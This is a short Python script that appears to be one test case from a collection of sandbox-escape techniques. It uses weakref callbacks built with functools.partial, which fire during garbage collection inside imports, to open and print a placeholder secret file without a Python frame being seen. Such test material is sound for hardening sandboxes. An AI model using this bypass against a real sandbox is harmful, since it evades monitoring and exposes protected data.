# technique: an object of a module that is being replaced dies inside an import and calls back into C
# goal: read-secret
# source: own analysis: C callables have no frame
import functools
import weakref
kept = []


class Thing:
    pass


things = []
for _ in range(400):
    thing = Thing()
    thing.self = thing
    things.append(weakref.ref(thing, functools.partial(lambda path, ref: kept.append(open(path)), '@SECRET@')))
del thing
import difflib, calendar, statistics, uuid, hashlib
print(kept[0].read())
